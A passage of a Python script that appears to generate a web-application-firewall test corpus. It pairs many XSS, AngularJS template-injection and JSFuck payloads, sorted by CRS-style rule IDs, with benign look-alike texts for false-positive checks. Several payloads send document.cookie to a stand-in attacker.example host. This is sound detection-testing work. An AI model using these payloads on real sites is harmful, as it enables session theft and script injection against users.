    "+ADw-a href+AD0AIg-javascript:alert(1)+ACI-+AD4-x",
]

JSFUCK: list[Entry] = [
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
    "(![]+[])[+!+[]]",
    "!+[]+!+[]",
    "(!![]+[])[+!+[]]",
    "[][[]]+[]",
    "(+(+!+[]+(!+[]+[])[!+[]+!+[]+!+[]]+[+!+[]]+[+[]]+[+[]])+[])[!+[]+!+[]]",
    "((+{}+[])[+!![]])",
    "$=~[];$={___:++$,$$$$:(![]+\"\")[$],__$:++$,$_$_:(![]+\"\")[$]}",
    "%21%2B%5B%5D%2B%21%2B%5B%5D",
    "[] [ ! + [ ] ]",
    ("(![]+[])[+[]]", UNI),
]

JS_GLOBAL: list[Entry] = [
    "window[\"alert\"](1)",
    "self['al'+'ert'](1)",
    "top[/al/.source+/ert/.source](1)",
    "this[\"ev\"+\"al\"](\"alert(1)\")",
    "document['cookie']",
    "window/**/.alert(1)",
    "parent[\"alert\"](1)",
    "globalThis['alert'](1)",
    "window [ \"alert\" ] (1)",
    "top/*x*/['alert'](1)",
    "%77indow[\"alert\"](1)",
    ("window[\"alert\"](1)", UNI),
]

REF_PATH = ("header:Referer", "rs-path")
PATH_REF = ("path", "rs-header:Referer")
XSS_LIBINJECTION_PL2: list[Entry] = [
    ("<script>alert(1)</script>", (*REF_PATH, "path")),
    ("https://attacker.example/\"><script>alert(1)</script>", ("header:Referer", "rs-header:Referer")),
    ("\"><img src=x onerror=alert(1)>", PATH_REF),
    ("<svg onload=alert(1)>", REF_PATH),
    ("'><body onload=alert(1)>", PATH_REF),
    ("<iframe src=javascript:alert(1)>", REF_PATH),
    ("javascript:alert(1)", ("header:Referer", "rs-header:Referer")),
    ("<a href=javascript:alert(1)>x</a>", PATH_REF),
    ("<img src=x onerror=alert(1)//", REF_PATH),
    ("\"onmouseover=\"alert(1)", PATH_REF),
]

DISALLOWED_ATTRS: list[Entry] = [
    "<a href=\"//attacker.example\">click</a>",
    "<img src=\"//attacker.example/p.gif\">",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">",
    "x\" style=\"background:red",
    "' src='//attacker.example/x.js",
    "<iframe SRC = //attacker.example>",
    "<p STYLE=color:red>",
    "HREF=javascript:alert(1)",
    "<a/href=x>",
    "%3Ca%20href%3D%2F%2Fattacker.example%3E",
    "&lt;img src=x&gt;",
]

HTML_TAG: list[Entry] = [
    "<b>bold</b>",
    "<div>x</div>",
    "<textarea>",
    "<marquee>scroll</marquee>",
    "<blink>x</blink>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<table><tr><td>x</td></tr></table>",
    "<font color=red>x</font>",
    "<bgsound src=x.wav>",
    "<keygen autofocus onfocus=alert(1)>",
    "%3Cu%3Ex%3C%2Fu%3E",
]

IE_941330: list[Entry] = [
    "\";location='//attacker.example';//",
    "';document.location=\"//attacker.example?\"+document.cookie;//",
    "'-(location=\"javascript:alert(1)\")-'",
    "\"; window.name='x';//",
    "'in self.location='//attacker.example'",
    "'; onerror=alert; throw 1;//",
    "\"; \\u006Cocation='//attacker.example';//",
    "'|valueOf=alert|'",
    "\";top.location.href='//attacker.example';//",
    "'+(onerror=eval)+'",
    "%22%3Blocation%3D%27%2F%2Fattacker.example%27%3B%2F%2F",
]

IE_941340: list[Entry] = [
    "\";document.cookie=\"a=b\";//",
    "'; window.location.href='//attacker.example';//",
    "\"-document.body.innerHTML=\"x\"-\"",
    "'+top.document.title='x'+'",
    "\";a.b=c;//",
    "' in x.y='z",
    "\";self.name='x';//",
    "\"|document.domain='example.org'|\"",
    "';Object.prototype.x=1;//",
    "\"; img.src='//attacker.example/?'+document.cookie;//",
]

ANGULAR: list[Entry] = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{ [].pop.constructor('alert(1)')() }}",
    "{{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(97,108,101,114,116,40,49,41))()}}",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
    "<div ng-app ng-csp>{{$eval.constructor('alert(1)')()}}</div>",
    "%7B%7Bconstructor.constructor('alert(1)')()%7D%7D",
    "<input ng-focus=$event.view.alert(1) autofocus>",
    "{{  7 * 7  }}",
    ("{{constructor.constructor('alert(1)')()}}", UNI),
]

JS_METHOD: list[Entry] = [
    "eval(atob('YWxlcnQoMSk='))",
    "setTimeout('alert(1)',0)",
    "setInterval(\"alert(1)\",1000)",
    "new Function('alert(1)')()",
    "prompt(document.domain)",
    "confirm(1)",
    "console.log(document.cookie)",
    "fetch('//attacker.example/?c='+document.cookie)",
    "import('//attacker.example/x.js')",
    "alert /**/ (1)",
    "eval\t(name)",
    "%61lert(1)",
]

NO_PARENS: list[Entry] = [
    "alert`1`",
    "onerror=alert;throw 1",
    "[].sort.call`${alert}1337`",
    "setTimeout`alert\\x281\\x29`",
    "eval.call`${'alert\\x281\\x29'}`",
    "throw onerror=alert,1",
    "{onerror=alert}throw 1",
    "location=name",
    "window.onerror=eval;throw'=alert\\x281\\x29'",
    "top['al'+'ert']`1`",
    "Reflect.apply.call`${alert}${window}${[1]}`",
    "prompt`xss`",
]

TITLES: list[tuple[str, str, list[Entry]]] = [
    ("php", "php-open-tag", PHP_OPEN_TAG),
    ("php", "php-script-file-upload", PHP_UPLOAD),
    ("php", "php-configuration-directive", PHP_CONFIG),
    ("php", "php-variables", PHP_VARIABLES),
    ("php", "php-io-stream", PHP_IO_STREAM),
    ("php", "php-wrapper-scheme", PHP_WRAPPER),
    ("php", "php-high-risk-function-name", PHP_FUNC_NAME),
    ("php", "php-high-risk-function-call", PHP_FUNC_CALL),
    ("php", "php-serialized-object-injection", PHP_SERIALIZED),
    ("php", "php-variable-function-call", PHP_VAR_FUNC),
    ("php", "php-variable-function-call-933210", PHP_VAR_FUNC_STRING),
    ("php", "php-medium-risk-function-name", PHP_MEDIUM_FUNC),
    ("generic", "nodejs-injection", NODE_33),
    ("generic", "nodejs-injection-crs4", NODE_4X),
    ("generic", "ssrf-cloud-metadata-url", SSRF_METADATA),
    ("generic", "ssrf-url-ip-address", SSRF_IP),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "php-data-scheme", PHP_DATA),
    ("generic", "session-fixation-cookie-in-html", COOKIE_IN_HTML),
    ("xss", "xss-libinjection", XSS_LIBINJECTION),
    ("xss", "xss-script-tag-vector", SCRIPT_TAG),
    ("xss", "xss-event-handler-vector", EVENT_HANDLER),
    ("xss", "xss-attribute-vector", ATTRIBUTE_VECTOR),
    ("xss", "xss-javascript-uri-vector", JS_URI_VECTOR),
    ("xss", "noscript-html-injection", NOSCRIPT_HTML),
    ("xss", "noscript-attribute-injection", NOSCRIPT_ATTRIBUTE),
    ("xss", "node-validator-blacklist", NODE_VALIDATOR),
    ("xss", "ie-xss-filters-941190", IE_941190),
    ("xss", "ie-xss-filters-941200", IE_941200),
    ("xss", "ie-xss-filters-941210", IE_941210),
    ("xss", "ie-xss-filters-941220", IE_941220),
    ("xss", "ie-xss-filters-941230", IE_941230),
    ("xss", "ie-xss-filters-941240", IE_941240),
    ("xss", "ie-xss-filters-941250", IE_941250),
    ("xss", "ie-xss-filters-941260", IE_941260),
    ("xss", "ie-xss-filters-941270", IE_941270),
    ("xss", "ie-xss-filters-941280", IE_941280),
    ("xss", "ie-xss-filters-941290", IE_941290),
    ("xss", "ie-xss-filters-941300", IE_941300),
    ("xss", "us-ascii-malformed-encoding", US_ASCII),
    ("xss", "utf7-encoding-ie-xss", UTF7),
    ("xss", "jsfuck-hieroglyphy", JSFUCK),
    ("xss", "javascript-global-variable", JS_GLOBAL),
    ("xss", "xss-libinjection-pl2", XSS_LIBINJECTION_PL2),
    ("xss", "disallowed-html-attributes", DISALLOWED_ATTRS),
    ("xss", "html-tag-handler", HTML_TAG),
    ("xss", "ie-xss-filters-941330", IE_941330),
    ("xss", "ie-xss-filters-941340", IE_941340),
    ("xss", "angularjs-template-injection", ANGULAR),
    ("xss", "javascript-method", JS_METHOD),
    ("xss", "js-function-without-parentheses", NO_PARENS),
]

# ---------------------------------------------------------------- placements
REAL = ("query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Custom",
        "param-name", "xml", "multipart-field", "multipart-filename", "path")
RS = ("rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom", "rs-cookie")
REAL_NAMES = ["q", "name", "bio", "url", "search", "callback", "comment", "title"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
RS_GET_PATHS = ["/", "/index.php", "/get", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_POST_PATHS = ["/post", "/", "/index.php", "/api/v1/items"]
BOUNDARY = "----fortyfourthBoundary7MA4YWxkTrZu0gW"


def default_places(g: int) -> tuple[str, ...]:
    """The g-th payload's places: one of our real routes and one regression-suite place, each rotating."""
    return REAL[g % len(REAL)], RS[(g + g // len(REAL)) % len(RS)]


def header_safe(value: str) -> str:
    """A header value: no CR, LF or NUL; characters outside Latin-1 percent-encoded."""
    value = value.replace("\r", " ").replace("\n", " ").replace("\0", "")
    return "".join(c if ord(c) < 256 else urllib.parse.quote(c) for c in value)


def xml_escape(value: str) -> str:
    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def json_unicode(value: str) -> str:
    """A JSON string literal with every character but letters, digits and spaces written as \\uXXXX."""
    return "\"" + "".join(c if (c.isascii() and c.isalnum()) or c == " " else f"\\u{ord(c):04x}"
                          for c in value) + "\""


def multipart(fields: list[tuple[str, str]], filename: str, content: str) -> tuple[str, dict[str, str]]:
    parts = [f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{n}\"\r\n\r\n{v}\r\n" for n, v in fields]
    fname = filename.replace("\"", "%22").replace("\r", " ").replace("\n", " ")
    parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{fname}\"\r\n"
                 f"Content-Type: application/octet-stream\r\n\r\n{content}\r\n")
    return "".join(parts) + f"--{BOUNDARY}--\r\n", {
        "User-Agent": UA, "Accept": "application/json", "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}


def _headers(extra: dict[str, str]) -> dict[str, str]:
    return {"User-Agent": UA, "Accept": "*/*", **extra}


def _request(place: str, p: str, k: int) -> dict[str, Any]:
    """One request carrying payload p at `place`; k picks the parameter names and paths."""
    name, rname = REAL_NAMES[k % len(REAL_NAMES)], RS_NAMES[k % len(RS_NAMES)]
    gpath, ppath = RS_GET_PATHS[k % len(RS_GET_PATHS)], RS_POST_PATHS[k % len(RS_POST_PATHS)]
    api = "/api/users?page=1"
    if place == "query":
        return _get(_query("/api/users", [(name, p), ("page", "1")]))
    if place == "form":
        return _form("/admin/users/search", [("csrf_token", "t0k3n"), (name, p)])
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: p})
    if place == "cookie":
        return {**_get(api), "headers": _headers({"Cookie": "session=abc123; prefs=" + urllib.parse.quote(p)})}
    if place == "header:User-Agent":
        return {**_get(api), "headers": {"User-Agent": header_safe(p), "Accept": "application/json"}}
    if place == "header:Referer":
        return {**_get(api), "headers": _headers({"Referer": header_safe(p)})}
    if place == "header:X-Custom":
        return {**_get(api), "headers": _headers({"X-Client-Note": header_safe(p)})}
    if place in ("header:X-Filename", "header:X-File-Name"):
        return {"method": "PUT", "uri": "/api/users/42/avatar", "body": "GIF89a",
                "headers": _headers({place.split(":", 1)[1]: header_safe(p), "Content-Type": "image/gif"})}
    if place == "param-name":
        return _get("/api/users?" + urllib.parse.quote(p, safe="") + "=1&page=1")
    if place == "xml":
        body = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><user><name>" + xml_escape(p)
                + "</name><email>a@example.org</email></user>")
        return {"method": "POST", "uri": "/api/users", "body": body,
                "headers": _headers({"Content-Type": "application/xml"})}
    if place == "multipart-field":
        body, headers = multipart([("caption", p)], "photo.jpg", "JFIF0000")
        return {"method": "POST", "uri": "/api/users/42/avatar", "body": body, "headers": headers}
    if place == "multipart-filename":
        body, headers = multipart([("caption", "my photo")], p, "GIF89a<?php echo 1; ?>")
        return {"method": "POST", "uri": "/api/users/42/avatar", "body": body, "headers": headers}
    if place == "path":
        return _get("/api/users/" + urllib.parse.quote(p, safe=""))
    if place == "json-unicode":
        return {**_json("/api/users", {}), "body": "{\"email\": \"a@example.org\", \"" + name + "\": "
                + json_unicode(p) + "}"}
    if place == "query-raw":
        return _get("/api/users?" + p)
    if place == "query-latin1":
        return _get(f"/api/users?{name}=" + urllib.parse.quote(p.encode("latin-1"), safe="") + "&page=1")
    if place == "form-latin1":
        return {**_form("/admin/users/search", []),
                "body": f"csrf_token=t0k3n&{name}=" + urllib.parse.quote(p.encode("latin-1"), safe="")}
    # the regression suite's ways
    if place == "rs-query":
        return _get(_query(gpath, [(rname, p)]))
    if place == "rs-query-raw":
        return _get("/index.php?" + p)
    if place == "rs-query-latin1":
        return _get(f"{gpath}?{rname}=" + urllib.parse.quote(p.encode("latin-1"), safe=""))
    if place == "rs-form":
        return _form(ppath, [(rname, p)])
    if place == "rs-form-latin1":
        return {**_form(ppath, []), "body": f"{rname}=" + urllib.parse.quote(p.encode("latin-1"), safe="")}
    if place == "rs-json":
        return _json(ppath, {rname: p})
    if place == "rs-json-unicode":
        return {**_json(ppath, {}), "body": "{\"" + rname + "\": " + json_unicode(p) + "}"}
    if place == "rs-xml":
        inner = xml_escape(p) if "]]>" in p else "<![CDATA[" + p + "]]>"
        body = f"<?xml version=\"1.0\"?><root><{rname}>{inner}</{rname}></root>"
        return {"method": "POST", "uri": ppath, "body": body, "headers": _headers({"Content-Type": "text/xml"})}
    if place == "rs-raw-body":
        return {**_form(ppath, []), "body": p}
    if place == "rs-raw-body-latin1":
        return {**_form(ppath, []), "body": urllib.parse.quote(p.encode("latin-1"), safe="")}
    if place == "rs-path":
        return _get("/" + urllib.parse.quote(p, safe=""))
    if place == "rs-cookie":
        return {**_get(gpath), "headers": _headers({"Cookie": f"{rname}=" + urllib.parse.quote(p)})}
    if place == "rs-multipart-filename":
        body, headers = multipart([(rname, "1")], p, "<?php echo 1; ?>")
        return {"method": "POST", "uri": ppath, "body": body, "headers": headers}
    if place.startswith("rs-header:"):
        header = place.split(":", 1)[1]
        header = {"X-Custom": "X-Foo"}.get(header, header)
        return {**_get(gpath), "headers": {**_headers({}), header: header_safe(p)}}
    raise ValueError(place)


def session_requests(k: int, param: str, value: str, referer: str | None) -> list[tuple[str, dict[str, Any]]]:
    """A session parameter name fixed by a link: in our query, our admin form, a JSON key and a regression
    suite's query; with an off-domain Referer or none."""
    extra = {"Referer": referer} if referer else {}
    q = _get(_query("/api/users", [("page", "1"), (param, value)]))
    f = _form("/admin/users/search", [("csrf_token", "t0k3n"), (param, value)])
    j = _json("/api/users/42", {"name": "Ann", param: value})
    rs = _get(_query(RS_GET_PATHS[k % len(RS_GET_PATHS)], [(param, value)]))
    rs_path = _get(f"/index.jsp;{param}={value}")
    out = [[("param-name", q), ("form-param-name", f), ("json-key", j)][k % 3], ("rs-param-name", rs)]
    if param == "jsessionid":
        out.append(("rs-path-param", rs_path))
    return [(place, {**rec, "headers": {**rec["headers"], **extra}}) for place, rec in out]


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    g = 0

    def record(rec: dict[str, Any], category: str, sub: str, place: str, payload: str) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                "placement": place, "payload": payload}

    for category, sub, entries in TITLES:
        for entry in entries:
            payload, places = (entry, default_places(g)) if isinstance(entry, str) else entry
            for j, place in enumerate(places):
                yield record(_request(place, payload, g + j), category, sub, place, payload)
            g += 1
    for i, (kind, text) in enumerate(POLLUTION):
        sub = "javascript-prototype-pollution"
        if kind == "q":
            yield record(_get("/api/users?" + text + "&page=1"), "generic", sub, "param-name", text)
            yield record(_get(RS_GET_PATHS[i % len(RS_GET_PATHS)] + "?" + text), "generic", sub,
                         "rs-param-name", text)
            if i % 4 == 1:
                yield record({**_form("/post", []), "body": text}, "generic", sub, "rs-form", text)
        else:
            yield record({**_json("/api/users", {}), "body": text}, "generic", sub, "json", text)
            yield record({**_json(RS_POST_PATHS[i % len(RS_POST_PATHS)], {}), "body": text}, "generic", sub,
                         "rs-json", text)
    for sub, referers in (("session-fixation-off-domain-referer", OFF_DOMAIN), ("session-fixation-no-referer", [])):
        for i, (param, value) in enumerate(SESSION_PARAMS):
            referer = referers[i % len(referers)] if referers else None
            for place, rec in session_requests(i, param, value, referer):
                yield record(rec, "generic", sub, place, f"{param}={value}")


# ---------------------------------------------------------------- benign: the same words, innocently
SLACK_TEXTS = [
    "Script for the onboarding video is in the drive, please review by Friday",
    "the onload time of the dashboard dropped to 1.2s after the CDN change",
    "why do our <script> tags get stripped from the CMS preview? is that the sanitizer?",
    "style guide says sentence case for headings, not title case",
    "I'll embed the Loom video in the wiki page after lunch",
    "meta: let's keep this channel for incidents only",
    "base salary bands are in the HR portal now",
    "object storage bill went up 12% this month, anyone know why?",
    "frame rate on the demo laptop is terrible, bring your own",
    "link to the RFC is https://datatracker.ietf.org/doc/html/rfc6265",
    "the form on the contact page sends to sales@example.com",
    "vbscript macros in the old Excel sheet need replacing before the audit",
    "\"JavaScript: The Good Parts\" is on my desk if anyone wants it",
    "the {{ first_name }} placeholder in the email template isn't rendering",
    "Angular 17 migration: three components still use {{ }} interpolation with pipes",
    "the PHPSESSID cookie still shows up on the legacy admin, ticket filed",
    "fixed the session id rotation on login, please retest",
    "system maintenance window Saturday 02:00-04:00 UTC",
    "exec team offsite is next week, calendar invite sent",
    "eval period for the new vendor ends on the 30th",
    "the assert in test_users.py fails on CI only, flaky?",
    "base64 decode the attachment and you get the CSV",
    "phpinfo page on staging has been removed, thanks for the heads up",
    "require approval from two reviewers on main, please",
    "child process crashed with exit code 137 (OOM) on the worker",
    "constructor injection is preferred over field injection in our services",
    "the prototype is ready for user testing tomorrow",
    "a while true loop in the retry logic needs a max attempts",
    "our lint config bans for(;;) without a break, fyi",
    "the Rails app still shells out in one rake task, tracked in JIRA",
    "Perl one-liners in the cron jobs are being rewritten in Python",
    "data:image/png;base64 avatars are too big to keep in the DB",
    "169.254 addresses are link-local, don't put them in configs",
    "127.0.0.1 works but localhost doesn't on the Windows box, weird",
    "window seat please :)",
    "you're top of the list for the next on-call rotation",
    "self-review is due Friday",
    "this document is the source of truth for the launch",
    "location: Berlin office, 3rd floor, room Ada",
    "onerror in the image component falls back to initials now",
    "the style attribute in emails has to be inline, Outlook ignores <style>",
    "href links in the newsletter need UTM params",
    "src folder restructure is merged",
    "import the CSV via Settings > Import > Contacts",
    "expression of interest form is live on the careers page",
    "Set-Cookie is missing SameSite on /auth, I'll fix it",
    "the isindex element is deprecated, right? saw it in an old template",
    "select your location from the dropdown before saving",
    "I'll write the document for the cookie consent banner",
    "the iframe embed for the status page is on the wiki",
    "applet support was removed from browsers years ago",
    "link rel=preload for the fonts saved 200ms",
    "is the base href set in index.html? routing breaks without it",
    "the meta charset should be utf-8 everywhere",
    "php 8.3 upgrade is done on the legacy box, composer install worked",
    "the $_GET handling in the old admin was replaced by the router",
    "php://stdin is what the CLI script reads from, docs updated",
    "we unserialize nothing from cookies anymore, only JSON",
    "the file upload accepts .jpg .png and .pdf only",
    "allow_url_include is off in our php.ini, as it should be",
    "shell_exec is disabled in disable_functions on prod",
    "the exec() call in deploy.php was replaced with the SDK",
    "zip archives of the exports are in the bucket",
    "glob patterns in the config need quoting",
    "readfile is how the old download endpoint streamed files",
    "fopen mode 'rb' fixed the Windows issue",
    "require('express') is the only server dependency",
    "process.env.PORT is read at startup",
    "the node-serialize package is gone from our lockfile",
    "we use new Function nowhere, eslint flags it",
    "String.fromCharCode came up in the unicode bug discussion",
    "module.exports vs export default, pick one per package",
    "the metadata service is blocked from the containers by the egress policy",
    "internal IPs like 10.0.0.0/8 are allowed only inside the VPC",
    "the webhook URL must be https and public",
    "gopher protocol in curl is disabled in our build",
    "Object.prototype should never be touched by app code",
    "the __proto__ key is stripped by our JSON parser",
    "the constructor.prototype chain explanation in the docs is great",
    "Ruby 3.3 and Rails 7.1 in the billing service",
    "Kernel#system in the rake task is being replaced",
    "Perl's open with three args is the safe form",
    "the regex (a+)+ is a classic ReDoS example from the training",
    "the DoS runbook is pinned in #incidents",
    "don't paste data: URLs into tickets, they're huge",
    "cookie domain should be .example.com for the SSO",
    "the expires date on the marketing cookie is 13 months",
    "session fixation was in last year's pentest report, now fixed",
    "the jsessionid in URLs problem is gone since we moved off Tomcat",
    "document.title updates when there are unread messages",
    "innerHTML is banned in our lint rules, use textContent",
    "window.location changes are done by the router",
    "the parentNode check guards against detached elements",
    "comment out the <!-- debug --> block before release",
    "CDATA sections in the RSS feed need escaping",
    "UTF-7 is a legacy charset, we only emit UTF-8",
    "JSFuck looked like a joke until I saw it in a CTF",
    "the global variable window.__APP_CONFIG__ is set by the server",
    "top-level await works in our build now",
    "self-hosted runners are back online",
    "the alert banner on the homepage is for the outage",
    "confirm the meeting room for Thursday please",
    "prompt engineering workshop is at 3pm",
    "fetch API polyfill can be dropped now",
    "console.log statements should not ship to production",
    "setTimeout with 0 delay is a hack, use queueMicrotask",
    "the eval of the candidate's take-home is done",
    "throw it in the backlog and we'll look next sprint",
    "onboarding checklist: link Slack, set avatar, import contacts",
    "Marquee customers get priority support",
    "Blink and you'll miss the deploy, it's that fast now",
    "the textarea grows with content on the feedback form",
    "<b>bold</b> tags in the release notes render as text, use markdown",
    "font color in the dashboard is too low contrast",
    "the table on the pricing page needs a mobile layout",
    "h1 should appear once per page for SEO",
    "the span around the price breaks screen readers",
    "the keygen element is dead, we use WebCrypto",
    "plaintext passwords are never logged, checked the filters",
    "the xmp tag shows up in an ancient email template",
    "location.href vs location.assign, no difference for us",
    "name field allows accents and apostrophes, e.g. O'Brien",
    "the valueOf override in Money class is for comparisons",
    "the ng-app attribute is gone after the Angular migration",
    "{{7*7}} in the template preview showed 49, so it's Jinja not plain text",
    "import maps are supported in all our target browsers",
    "btoa fails on unicode, use TextEncoder first",
    "alert fatigue is real, we tuned the paging thresholds",
    "the vml export of the diagrams is for the old Visio",
    "the charset param on the content type fixed the mojibake",
    "refresh tokens rotate every 30 days",
    "the embed code for the YouTube video is in the CMS",
    "the object tag fallback for the PDF viewer is fine",
    "xlink:href is deprecated in SVG 2, use href",
    "the xmlns attribute is required in standalone SVG files",
    "formaction on the second button submits to the draft endpoint",
    "the pattern attribute validates the postcode field",
    "@import in the CSS slows first paint, inline the critical bits",
    "behavior:url was an IE thing, we dropped IE11 long ago",
    "expression() in CSS was IE only too",
    "the background url in the hero CSS points at the CDN",
]

SEARCHES = [
    "script writer", "onload", "style guide", "embed video", "meta tags", "base salary", "object storage",
    "iframe", "applet", "link preview", "form builder", "vbscript", "javascript course", "angular",
    "phpsessid", "session id", "system status", "exec summary", "eval report", "assert", "base64",
    "phpinfo", "require", "child process", "constructor", "prototype", "while loop", "for loop",
    "ruby", "perl", "data url", "metadata", "localhost", "window cleaning", "top sellers", "self service",
    "document scanner", "location", "on error resume", "href", "src", "import contacts", "expression",
    "set cookie", "isindex", "select", "cookie policy", "charset", "refresh", "vml", "xlink", "xmlns",
    "formaction", "pattern", "behavior", "background", "marquee", "blink", "textarea", "bold", "font",
    "table", "h1", "span", "keygen", "plaintext", "xmp", "valueOf", "ng-app", "btoa", "alert", "confirm",
    "prompt", "fetch", "console", "setTimeout", "throw", "innerHTML", "parentNode", "CDATA", "utf-7",
    "jsfuck", "global", "php", "php://", "file upload", "shell", "passthru", "proc", "popen", "phar",
    "zip", "glob", "expect", "ssh2", "compress", "serialize", "unserialize", "allow_url_include",
    "auto_prepend_file", "open_basedir", "disable_functions", "$_GET", "$_POST", "GLOBALS", "fopen",
    "readfile", "highlight", "show source", "curl", "getenv", "symlink", "chmod", "unlink", "scandir",
    "mail", "Kernel", "IO", "Open3", "Marshal", "YAML", "ERB", "qx", "POSIX", "169.254", "10.0.0.1",
    "127.0.0.1", "gopher", "dict", "ftp", "__proto__", "constructor prototype", "node", "deno",
    "O'Brien", "Ana Lúcia", "Zoë", "München", "São Paulo", "Łódź", "Dvořák", "Ærø", "Åsa", "Jürgen",
]

PROSE = [
    "The script of the play was revised for the second act.",
    "On load, the truck carries up to 12 tons; on unload it rests.",
    "Please style the report in the company template.",
    "Base and object are two words the linguistics class discussed.",
    "The applet of the old site was replaced by a plain form.",
    "Our meta review covered forty studies.",
    "Location: 12 Rue de la Paix, Paris. Name: Élodie Martin.",
    "Window and door replacement is scheduled for March.",
    "The top of the document should carry the title and the date.",
    "Self-assessment forms are due at the end of the quarter.",
    "Set the cookie jar on the top shelf, please.",
    "The system exec summary is attached to this message.",
    "Evaluation (eval) results will be shared in the all-hands.",
    "Require two forms of ID at the front desk.",
    "The child process for adoption takes about a year.",
    "A constructor built the prototype house on Elm Street.",
    "While true love waits, the for-loop of life goes on.",
    "Ruby and Pearl are the twins' names.",
    "The data shows a 3% increase; see the metadata sheet.",
    "Session ID badges are handed out at the registration desk.",
    "Import duties apply to shipments over 150 EUR.",
    "Expression of interest deadline: 15 May.",
    "The alert level was lowered to yellow.",
    "Confirm your attendance by replying to this email.",
    "Fetch the kids from school at 3 pm.",
    "Throw the ball to the dog, not at it.",
    "The frame of the painting is gilded oak.",
    "Embed the chart in the slide deck.",
    "Link the two accounts in the settings page.",
    "The marquee over the theatre lists tonight's show.",
    "Blink twice if you need help, said the teacher jokingly.",
    "The plaintext of the letter was read aloud.",
    "Font size 12, Times New Roman, double spaced.",
    "Table 3 shows the results by region.",
    "Kernel size of the filter is 3x3.",
    "Marshal Street is closed for the parade.",
    "The ERB meeting is on Tuesday.",
    "Global warming is the topic of the seminar.",
    "The prompt reply from support was appreciated.",
    "Console the team after the tough loss.",
    "I'm at 127 Main St, Apt 10.",
    "Order #1699 ships tomorrow.",
    "Price: 5 EUR; VAT included; shipping at cost.",
    "Dear customer, your request (ref. 42) was received.",
    "Use the pattern on page 4 for the knitting project.",
    "The background check is complete.",
    "The base of the lamp is marble.",
    "Please select a date between 1 and 31.",
    "My document number is AB-1234-CD.",
    "The name of the ship is Valiant.",
    "Object lesson: always back up.",
    "Link building is part of the SEO plan.",
    "The style of the house is Victorian.",
    "The window of opportunity closes Friday.",
    "The glob of paint dried on the floor.",
    "Zip code 10115 is in Berlin.",
    "Expect delays on the A1 due to roadworks.",
    "The phar-macy on the corner is open late.",
    "The data scheme for the survey has five categories.",
    "Ruby on Rails and Perl scripts are both in the legacy repo.",
]

PUBLIC_URLS = [
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/object",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/embed",
    "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/Basics_of_HTTP/Data_URLs",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/eval",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/reserved.variables.get.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/ini.core.php",
    "https://nodejs.org/api/child_process.html",
    "https://nodejs.org/api/vm.html",
    "https://ruby-doc.org/core/Kernel.html",
    "https://perldoc.perl.org/functions/open",
    "https://angular.dev/guide/templates",
    "https://owasp.org/www-community/attacks/xss/",
    "https://owasp.org/www-community/attacks/Session_fixation",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://github.com/acme/web/blob/main/src/onload.js",
    "https://github.com/acme/api/blob/main/app/models/user.rb",
    "https://example.com/search?q=script+tags&page=2",
    "https://cdn.example.org/css/style.css?v=2",
    "https://cdn.example.org/js/app.min.js?build=1042",
    "https://www.example.co.uk/products/object-storage?ref=nav",
    "https://blog.example.com/2024/03/01/why-we-dropped-php",
    "https://jobs.example.com/apply?position=frontend&location=berlin",
    "https://maps.example.com/?q=127+Main+St",
    "https://example.org/docs/session-management#rotation",
    "https://hooks.slack.com/services/T0000/B0000/XXXXXXXX",
    "https://status.example.com/incidents/2024-05-01",
]

NAMES = [
    ("Ana Lúcia Ferreira", "Rua das Flores 12, Porto"), ("Seán O'Connor", "4 Quay St, Galway"),
    ("Zoë Müller", "Hauptstraße 5, München"), ("José Ñúñez", "Calle Mayor 3, Madrid"),
    ("Ruby Script", "12 Script Lane, Leeds"), ("Perl Window", "7 Window Rd, York"),
    ("Base Object Ltd", "1 Object Park, Dublin"), ("Meta Frame GmbH", "Rahmenweg 9, Köln"),
    ("Applet & Sons", "3 Link Street, Bristol"), ("Marquee Theatre", "10 Stage Ave, London"),
    ("D'Angelo Smith", "55 Location Blvd, Austin"), ("Eval Nordström", "Systemgatan 4, Uppsala"),
    ("Chad Exec", "9 Process Way, Denver"), ("Priya Constructor", "22 Prototype Ln, Pune"),
    ("Lars Session", "Cookievej 3, Aarhus"), ("Style Studio", "8 Embed Court, Manchester"),
    ("Dr. Alert Confirm", "2 Prompt St, Boston"), ("Global Top Co.", "100 Self Square, Singapore"),
    ("Data Scheme Inc.", "5 Import Rd, Toronto"), ("Kernel Coffee", "14 Marshal St, Sydney"),
